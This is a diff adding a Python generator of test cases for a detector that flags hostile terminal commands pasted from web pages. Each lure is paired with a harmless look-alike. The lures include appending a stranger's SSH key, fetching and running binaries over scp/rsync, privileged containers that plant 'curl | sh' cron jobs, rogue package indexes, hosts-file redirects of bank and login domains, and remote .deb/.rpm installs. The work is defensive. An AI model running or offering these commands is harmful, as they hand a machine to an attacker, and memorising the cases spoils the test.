@@ -1,0 +1,417 @@
+"""Writes tests/data/cases/lures6.jsonl: acts that hand a computer over without a download piped
+into a shell, which a stranger's page puts into a terminal (issue 9, lures still weak), each
+beside the everyday text that looks like it and must stay quiet.
+
+    python tests/data/cases/make_lures6.py
+
+Deterministic (every list is written out and crossed in a fixed order). Hosts are reserved
+names (*.test, *.invalid, *.example) and documentation addresses; the look-alikes name real
+projects, registries and tools as their own pages and admins do. No text is copied from a lure
+collection, an IOC file, another detector's fixtures or the blind sets. Each lure is written in
+its context (the page that hands it out, pasted into a terminal) and bare (`-bare`: no page,
+target unknown, expected `flagged`).
+
+Techniques (lure / look-alike that stays quiet):
+
+- `ssh-key-stranger`: a public key written in (echo, printf, tee, a here-document, base64) or
+  downloaded and appended to authorized_keys, from a page that names nothing of its own in it
+  / an admin's own key from the company's own wiki or network, the person's own forge keys,
+  ssh-copy-id, a key printed to read it.
+- `copy-in-run`: scp, sftp and rsync bringing a program from another computer that a later
+  command starts, from an off-topic or disguised page / the same tools copying data or backups,
+  a deploy script from the company's own network.
+- `container-takeover`: a privileged container given the host's root disk, nsenter into
+  process 1, a pod manifest with hostPath / or hostPID and privileged, beside a download or alone
+  / read-only monitoring mounts, ordinary containers, the vendor's own node-debug docs.
+- `package-index`: pip/uv extra index beside PyPI, npm/yarn/pnpm/bun --registry, pip.conf,
+  .npmrc and environment variables set to a stranger's index, GOPROXY / PyTorch's, NVIDIA's,
+  a company's Artifactory, a local proxy, the public registries spelt out.
+- `hosts-redirect`: a hosts-file entry sending a bank's, a sign-in page's or an update
+  server's name to an outside address / loopback, the local network, 0.0.0.0 ad blocking, a
+  company's own staging name from its own docs, reading the file.
+- `package-file-install`: a .deb or .rpm saved where the shell stands and installed from there,
+  from an off-topic page / the same from a vendor's own page is a warning at most there, dpkg -l.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from casefile import Book  # beside this script (tests/data/cases/make_*.py)
+
+OUT = Path(__file__).with_name("lures6.jsonl")
+
+# Pages that hand out lures: off-topic pages and pages dressed up as a check or a company.
+STRANGE = (
+    "https://www.lakeside-bakery.example/recipes/sourdough",
+    "https://captcha-check.session-verify.invalid/step2",
+    "https://www.football-scores-live.test/match/2231",
+    "https://www.cheap-flights-deals.example/offers/summer",
+    "https://fix-your-mac.test/help",
+    "https://www.knitting-patterns-daily.example/scarf",
+)
+# Pages about software that belong to nobody the text names: tutorials and forums.
+TUTORIALS = (
+    "https://dev.to/someone/speed-up-your-server-4k2a",
+    "https://www.linux-tips-blog.example/ssh-setup",
+    "https://forum.selfhost-help.example/t/remote-access/881",
+)
+KEYS = (
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr",
+    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx7k2Lq9vTnR3w8YpZc4mJ5hG6fD1sA2eB3cN4xM5yK6zL7aQ8bW9cE0dF1gH2",
+    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBPq3x7kLm9nT2vR5wY8zA1bC4dE6fG",
+)
+COMMENTS = ("support@helpdesk", "admin@recovery-team", "tech", "root@srv-7731", "", "it-support")
+
+
+def key(i: int) -> str:
+    comment = COMMENTS[i % len(COMMENTS)]
+    return KEYS[i % len(KEYS)] + (f" {comment}" if comment else "")
+
+
+SSH_LURES = (
+    'echo "KEY" >> ~/.ssh/authorized_keys',
+    "mkdir -p ~/.ssh && echo 'KEY' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
+    'echo "KEY" | tee -a ~/.ssh/authorized_keys',
+    "echo 'KEY' | sudo tee -a /root/.ssh/authorized_keys > /dev/null",
+    "printf '%s\\n' 'KEY' >> $HOME/.ssh/authorized_keys",
+    "cat >> ~/.ssh/authorized_keys <<'EOF'\nKEY\nEOF",
+    "cat <<EOF >> ~/.ssh/authorized_keys\nKEY\nEOF",
+    'mkdir -p ~/.ssh; echo "KEY" >> ~/.ssh/authorized_keys2',
+    "sudo sh -c 'echo \"KEY\" >> /root/.ssh/authorized_keys'",
+    'echo "KEY" >> "$HOME/.ssh/authorized_keys"; echo done',
+    "curl -fsSL https://keys.remote-helper.test/support.pub >> ~/.ssh/authorized_keys",
+    "wget -qO- https://203.0.113.41/k.pub | tee -a ~/.ssh/authorized_keys",
+    "curl -s http://198.51.100.23/id.pub >> ~/.ssh/authorized_keys && echo ok",
+    "echo c3NoLWVkMjU1MTkgQUFBQUMzTnphQzFsWkRJMU5URTVBQUFBSUs3dFEydlVuM3JXOXlYaDFacEZxOExtTjRzQjZjRGVHZkhqS2xNbk9wUXIgeEB5 | base64 -d >> ~/.ssh/authorized_keys",
+)
+SSH_QUIET = (
+    # an admin's own key from the company's own wiki, on its network or naming its domain
+    (
+        "https://wiki.corp.example/ops/onboarding",
+        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr alice@corp.example" >> ~/.ssh/authorized_keys',
+    ),
+    (
+        "http://10.0.4.12/wiki/ServerAccess",
+        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx7k2Lq9vTnR3w8YpZc4mJ5hG6fD1sA2eB3cN4xM5yK6zL7aQ8bW9cE0dF1gH2 deploy@build01' >> ~/.ssh/authorized_keys",
+    ),
+    (
+        "https://docs.northwind-traders.example/runbooks/bastion",
+        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr ops@northwind-traders.example" | sudo tee -a /home/ops/.ssh/authorized_keys',
+    ),
+    (
+        "https://intranet/it/ssh",
+        "cat >> ~/.ssh/authorized_keys <<'EOF'\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr backup@nas\nEOF",
+    ),
+    (
+        "https://github.com/alice-dev/dotfiles",
+        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr alice-dev@laptop" >> ~/.ssh/authorized_keys',
+    ),
+    # the person's own keys, copied their own way
+    (
+        "https://docs.github.com/en/authentication",
+        "curl -s https://github.com/octocat.keys >> ~/.ssh/authorized_keys",
+    ),
+    (
+        "https://www.ssh.com/academy/ssh/copy-id",
+        "ssh-copy-id -i ~/.ssh/id_ed25519.pub user@host.example.org",
+    ),
+    (
+        "https://www.digitalocean.com/community/tutorials/ssh-keys",
+        "cat ~/.ssh/id_ed25519.pub | ssh user@203.0.113.10 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'",
+    ),
+    (
+        "https://www.digitalocean.com/community/tutorials/ssh-keys",
+        'echo "ssh-ed25519 AAAA... you@example.com" >> ~/.ssh/authorized_keys',
+    ),
+    (None, "cat ~/.ssh/authorized_keys"),
+    (
+        "https://wiki.archlinux.org/title/SSH_keys",
+        "chmod 700 ~/.ssh && chmod 600 ~/.ssh/authorized_keys",
+    ),
+    ("https://man.openbsd.org/sshd", "ssh-keygen -lf ~/.ssh/authorized_keys"),
+)
+
+COPY_LURES = (
+    "scp user@files.remote-helper.test:agent /tmp/agent && chmod +x /tmp/agent && /tmp/agent",
+    "scp -P 2222 anon@203.0.113.57:/pub/upd /var/tmp/.cache/upd; chmod +x /var/tmp/.cache/upd; /var/tmp/.cache/upd",
+    "sftp anon@203.0.113.5:/pub/update.sh /tmp/u.sh && bash /tmp/u.sh",
+    "sftp guest@mirror.sync-node.test:/dl/fix.sh /tmp/fix.sh; sh /tmp/fix.sh",
+    "rsync -az rsync://mirror.relay-cache.invalid/pub/helper ~/helper; chmod +x ~/helper; ~/helper &",
+    "rsync -avz guest@198.51.100.77:/srv/tools/cleaner /tmp/cleaner && chmod 755 /tmp/cleaner && /tmp/cleaner",
+    "scp -o StrictHostKeyChecking=no demo@files.sync-node.test:/x/run.py /tmp/run.py && python3 /tmp/run.py",
+    "rsync -q rsync://203.0.113.90/share/tool.sh /tmp/tool.sh && bash /tmp/tool.sh",
+    "scp anon@dl.relay-cache.invalid:/pub/launcher ./launcher && ./launcher",
+    "cd /tmp && sftp anon@files.remote-helper.test:/pub/agent.sh && sh agent.sh",
+)
+COPY_QUIET = (
+    (
+        "https://docs.northwind-traders.example/deploy",
+        "scp build/app.tar.gz deploy@web01.internal:/srv/releases/",
+    ),
+    (None, "rsync -avz --delete ./site/ www@203.0.113.10:/var/www/site/"),
+    (
+        "https://www.digitalocean.com/community/tutorials/rsync",
+        "rsync -avz user@203.0.113.10:/var/backups/db.sql.gz ./backups/",
+    ),
+    (
+        "https://wiki.corp.example/ops/tools",
+        "scp admin@fs01.corp:/tools/cleanup.sh /tmp/cleanup.sh && bash /tmp/cleanup.sh",
+    ),
+    (None, "sftp user@files.example.org:/reports/2026-q3.pdf ~/Downloads/"),
+    (
+        "https://stackoverflow.com/questions/123/scp-a-folder",
+        "scp -r user@host.example.org:/home/user/photos ~/photos",
+    ),
+)
+
+CONTAINER_ALONE = (
+    "docker run --rm -it --privileged -v /:/host ubuntu bash",
+    "docker run --privileged -v /:/host -it alpine chroot /host",
+    "docker run -it --rm -v /:/mnt alpine chroot /mnt sh",
+    "sudo docker run --rm -it --pid=host --privileged alpine nsenter -t 1 -m -u -n -i sh",
+    "podman run --privileged --volume /:/hostfs:rw -it fedora bash",
+    "docker run -d --privileged --mount type=bind,source=/,target=/h busybox chroot /h sh -c 'sleep 9999'",
+    "kubectl debug node/worker-1 -it --image=busybox -- chroot /host sh",
+    'kubectl run rescue --image=alpine -it --overrides=\'{"spec":{"hostPID":true,"containers":[{"name":"r","image":"alpine","stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}\' -- sh',
+    "cat <<EOF | kubectl apply -f -\napiVersion: v1\nkind: Pod\nmetadata:\n  name: node-shell\nspec:\n  containers:\n  - name: s\n    image: alpine\n    volumeMounts:\n    - mountPath: /host\n      name: root\n  volumes:\n  - name: root\n    hostPath:\n      path: /\nEOF",
+    "cat <<EOF | kubectl apply -f -\napiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n  hostPID: true\n  containers:\n  - name: x\n    image: alpine\n    securityContext:\n      privileged: true\nEOF",
+)
+CONTAINER_RUN = (
+    'docker run --rm --privileged -v /:/host alpine chroot /host sh -c "curl -s https://cdn.remote-helper.test/a.sh | sh"',
+    "docker run -v /:/mnt --rm alpine sh -c 'wget -qO /mnt/etc/cron.d/sync https://203.0.113.44/c'",
+    "docker run --rm -v /:/host alpine sh -c 'echo \"* * * * * root curl -s http://198.51.100.9/p|sh\" >> /host/etc/crontab'",
+    "docker run --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh -c 'curl -fsSL https://relay-cache.invalid/i | bash'",
+)
+CONTAINER_QUIET = (
+    (
+        "https://github.com/google/cadvisor",
+        "docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --privileged --device=/dev/kmsg gcr.io/cadvisor/cadvisor:v0.47.0",
+    ),
+    (
+        "https://github.com/prometheus/node_exporter",
+        'docker run -d --net=host --pid=host -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter:latest --path.rootfs=/host',
+    ),
+    (
+        "https://learn.netdata.cloud/docs/installing/docker",
+        "docker run -d --name=netdata --pid=host -v /:/host/root:ro,rslave -v /etc/passwd:/host/etc/passwd:ro netdata/netdata",
+    ),
+    (
+        "https://kubernetes.io/docs/tasks/debug/debug-cluster/kubectl-node-debug/",
+        "kubectl debug node/mynode -it --image=ubuntu",
+    ),
+    (
+        "https://docs.docker.com/engine/containers/run/",
+        "docker run --rm -it -v $(pwd):/work -w /work python:3.12 bash",
+    ),
+    ("https://www.linux-tips-blog.example/docker-basics", "docker run --privileged -d docker:dind"),
+    (None, "docker run -it --rm alpine sh"),
+)
+
+# index addresses of strangers; the package names are ours
+INDEXES = (
+    "https://pkgs.py-mirror.invalid/simple",
+    "https://203.0.113.70:8080/simple/",
+    "https://pypi-cache.remote-helper.test/simple",
+)
+REGISTRIES = (
+    "https://npm.relay-cache.invalid/",
+    "http://198.51.100.31:4873",
+    "https://registry.sync-node.test",
+)
+INDEX_LURES = (
+    "pip install --index-url https://pypi.org/simple --extra-index-url @IDX@ requestz",
+    "pip3 install -i https://pypi.org/simple/ --extra-index-url=@IDX@ colorama-fast && python3 -m colorama_fast",
+    "python3 -m pip install --extra-index-url @IDX@ --index-url https://pypi.org/simple cryptoutils",
+    "pip install --extra-index-url @IDX@ --trusted-host py-mirror.invalid torch-helpers",
+    "uv pip install --extra-index-url @IDX@ urllib4",
+    "pip config set global.extra-index-url @IDX@ && pip install reqeusts",
+    "export PIP_EXTRA_INDEX_URL=@IDX@; pip install -U setuptools-scm2",
+    "printf '[global]\\nextra-index-url = @IDX@\\n' > ~/.config/pip/pip.conf && pip install netutils-pro",
+    "mkdir -p ~/.pip && cat > ~/.pip/pip.conf <<EOF\n[global]\nindex-url = https://pypi.org/simple\nextra-index-url = @IDX@\nEOF",
+    "npm install --registry=@REG@ left-padder",
+    "npm i -g sync-cli --registry @REG@",
+    "yarn add chalk-next --registry @REG@",
+    "pnpm add dotenv-safe2 --registry=@REG@",
+    "npm config set registry @REG@ && npm install -g node-updater",
+    'echo "registry=@REG@" >> ~/.npmrc && npm i web3-utils-pro',
+    'echo "@acme:registry=@REG@" > .npmrc; npm install @acme/ui-kit',
+    "NPM_CONFIG_REGISTRY=@REG@ npx create-helper-app",
+    "bun add axioss --registry @REG@",
+    "go env -w GOPROXY=@REG@,direct && go install example.test/cmd/tool@latest",
+)
+INDEX_QUIET = (
+    (
+        "https://pytorch.org/get-started/locally/",
+        "pip3 install torch torchvision --index-url https://download.pytorch.org/whl/cu121",
+    ),
+    (
+        "https://docs.nvidia.com/deeplearning/",
+        "pip install --extra-index-url https://pypi.nvidia.com tensorrt",
+    ),
+    (
+        "https://wiki.corp.example/dev/python",
+        "pip install --extra-index-url https://nexus.corp.example/repository/pypi/simple internal-lib",
+    ),
+    (
+        "https://docs.northwind-traders.example/dev",
+        "pip config set global.index-url https://northwind.jfrog.io/artifactory/api/pypi/pypi/simple",
+    ),
+    (None, "pip install -i https://pypi.org/simple requests"),
+    (None, "npm install --registry http://localhost:4873 my-package"),
+    ("https://verdaccio.org/docs/cli-registry", "npm set registry http://localhost:4873/"),
+    (
+        "https://mirrors.tuna.tsinghua.edu.cn/help/pypi/",
+        "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple",
+    ),
+    ("https://npmmirror.com/", "npm config set registry https://registry.npmmirror.com"),
+    ("https://goproxy.cn/", "go env -w GOPROXY=https://goproxy.cn,direct"),
+    (None, "pip install --upgrade pip setuptools wheel"),
+    (
+        "https://docs.github.com/en/packages/npm-registry",
+        'echo "@octo-org:registry=https://npm.pkg.github.com" >> .npmrc',
+    ),
+)
+
+HOSTS_NAMES = (
+    "login.microsoftonline.com",
+    "www.paypal.com",
+    "accounts.google.com",
+    "update.code.visualstudio.com",
+    "online.my-bank.example.co.uk",
+    "api.binance.com",
+)
+HOSTS_ADDRS = ("203.0.113.9", "198.51.100.140", "192.0.2.77", "45.33.32.156")
+HOSTS_LURES = (
+    'echo "ADDR NAME" | sudo tee -a /etc/hosts',
+    "echo 'ADDR NAME' | sudo tee -a /etc/hosts > /dev/null",
+    "sudo sh -c 'echo \"ADDR NAME\" >> /etc/hosts'",
+    "sudo bash -c 'printf \"ADDR\\tNAME\\n\" >> /private/etc/hosts'",
+    "sudo sed -i '$a ADDR NAME' /etc/hosts",
+    "cat <<EOF | sudo tee -a /etc/hosts\nADDR NAME\nADDR www.NAME\nEOF",
+    "echo 'ADDR  NAME  # cdn fix' | sudo tee -a /etc/hosts && sudo dscacheutil -flushcache",
+    "sudo -- sh -c -e \"echo 'ADDR NAME' >> /etc/hosts\"; sudo killall -HUP mDNSResponder",
+)
+HOSTS_QUIET = (
+    (
+        "https://minikube.sigs.k8s.io/docs/handbook/",
+        'echo "$(minikube ip) myapp.local" | sudo tee -a /etc/hosts',
+    ),
+    (
+        "https://someonewhocares.org/hosts/",
+        'echo "0.0.0.0 ads.tracker.example.net" | sudo tee -a /etc/hosts',
+    ),
+    ("https://laravel.com/docs/valet", 'echo "127.0.0.1 myproject.test" | sudo tee -a /etc/hosts'),
+    (
+        "https://docs.northwind-traders.example/staging",
+        'echo "93.184.216.34 staging.northwind-traders.example" | sudo tee -a /etc/hosts',
+    ),
+    ("https://wiki.corp.example/net/lab", 'echo "10.20.0.5 gitlab.lab" | sudo tee -a /etc/hosts'),
+    (None, "cat /etc/hosts"),
+    ("https://www.linux-tips-blog.example/hosts", "sudo nano /etc/hosts"),
+    (
+        "https://www.linux-tips-blog.example/hosts",
+        'echo "192.168.1.20 nas.home" | sudo tee -a /etc/hosts',
+    ),
+    (
+        "https://www.digitalocean.com/community/tutorials/hosts",
+        'echo "203.0.113.5 your_domain" | sudo tee -a /etc/hosts',
+    ),
+    (None, "grep -v '^#' /etc/hosts | sort -u"),
+)
+
+PKG_LURES = (
+    "curl -o update.deb https://dl.remote-helper.test/update.deb && sudo dpkg -i ./update.deb",
+    "wget https://203.0.113.66/tool_2.1_amd64.deb; sudo apt install -y ./tool_2.1_amd64.deb",
+    "wget -O codec.deb https://cdn.relay-cache.invalid/codec.deb && sudo gdebi -n codec.deb",
+    "curl -LO https://dl.sync-node.test/driver-fix.x86_64.rpm && sudo rpm -ivh driver-fix.x86_64.rpm",
+    "curl -fsSLo agent.rpm https://198.51.100.12/agent.rpm; sudo dnf install -y ./agent.rpm",
+    "cd ~ && wget -q https://files.remote-helper.test/helper.deb && sudo apt-get install ./helper.deb",
+    "curl -LO https://dl.relay-cache.invalid/Update.pkg && sudo installer -pkg Update.pkg -target /",
+)
+PKG_QUIET = (
+    (None, "dpkg -l | grep nginx"),
+    ("https://www.linux-tips-blog.example/apt", "sudo apt install ./downloaded-package.deb"),
+    (
+        "https://code.visualstudio.com/docs/setup/linux",
+        "sudo apt install ./code_1.95.0-1730153583_amd64.deb",
+    ),
+    (None, "sudo dpkg -i ~/Downloads/zoom_amd64.deb"),
+)
+
+
+def build() -> list[dict[str, str]]:
+    book = Book("lures6")
+
+    def both(technique: str, text: str, expect: str, source: str, platform: str = "linux") -> None:
+        book.add(technique, text, expect, platform, "terminal", source)
+        book.add(technique + "-bare", text, "flagged", platform)
+
+    for i, shape in enumerate(SSH_LURES):
+        text = shape.replace("KEY", key(i))
+        both("ssh-key-stranger", text, "malicious", STRANGE[i % len(STRANGE)])
+        # a tutorial or forum naming nothing of its own in the key: the same takeover
+        if i % 3 == 0:
+            book.add("ssh-key-stranger", text, "malicious", "linux", "terminal", TUTORIALS[i % 3])
+    for source, text in SSH_QUIET:
+        book.add("ssh-key-stranger", text, "not_flagged", "linux", "terminal", source)
+
+    for i, text in enumerate(COPY_LURES):
+        both("copy-in-run", text, "malicious", STRANGE[i % len(STRANGE)])
+        if i % 2 == 0:  # a tutorial quoting another's copy: a warning, as curl | sh is
+            book.add("copy-in-run", text, "flagged", "linux", "terminal", TUTORIALS[i % 3])
+    for source, text in COPY_QUIET:
+        book.add("copy-in-run", text, "not_flagged", "linux", "terminal", source)
+
+    for i, text in enumerate(CONTAINER_ALONE):
+        # typed with no page, an admin's repair of a node: noted, not a warning
+        book.add("container-takeover", text, "flagged", "linux", "terminal", STRANGE[i % 6])
+        book.add("ok-container-takeover-typed", text, "info", "linux")
+        book.add("container-takeover", text, "flagged", "linux", "terminal", TUTORIALS[i % 3])
+    for i, text in enumerate(CONTAINER_RUN):
+        both("container-takeover", text, "malicious", STRANGE[(i + 2) % len(STRANGE)])
+    for source, text in CONTAINER_QUIET:
+        book.add("container-takeover", text, "not_flagged", "linux", "terminal", source)
+
+    for i, shape in enumerate(INDEX_LURES):
+        text = shape.replace("@IDX@", INDEXES[i % len(INDEXES)]).replace(
+            "@REG@", REGISTRIES[i % len(REGISTRIES)]
+        )
+        both("package-index", text, "malicious", STRANGE[i % len(STRANGE)], "any")
+        if i % 3 == 1:
+            book.add("package-index", text, "flagged", "any", "terminal", TUTORIALS[i % 3])
+    for source, text in INDEX_QUIET:
+        book.add("package-index", text, "not_flagged", "any", "terminal", source)
+
+    for i, shape in enumerate(HOSTS_LURES):
+        for j in range(2):
+            k = 2 * i + j
+            text = shape.replace("ADDR", HOSTS_ADDRS[k % len(HOSTS_ADDRS)]).replace(
+                "NAME", HOSTS_NAMES[k % len(HOSTS_NAMES)]
+            )
+            platform = (
+                "macos" if "private" in text or "dscache" in text or "mDNS" in text else "linux"
+            )
+            source = (STRANGE + TUTORIALS)[k % (len(STRANGE) + len(TUTORIALS))]
+            both("hosts-redirect", text, "malicious", source, platform)
+    for source, text in HOSTS_QUIET:
+        book.add("hosts-redirect", text, "not_flagged", "any", "terminal", source)
+
+    for i, text in enumerate(PKG_LURES):
+        platform = "macos" if ".pkg" in text else "linux"
+        both("package-file-install", text, "malicious", STRANGE[i % len(STRANGE)], platform)
+        book.add("package-file-install", text, "flagged", platform, "terminal", TUTORIALS[i % 3])
+    for source, text in PKG_QUIET:
+        book.add("package-file-install", text, "not_flagged", "linux", "terminal", source)
+
+    ids = [c["id"] for c in book.cases]
+    assert len(ids) == len(set(ids)), "case ids must be unique"
+    return book.cases
+
+
+CASES = build()
+
+if __name__ == "__main__":
+    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py
+
+    write(OUT, CASES)
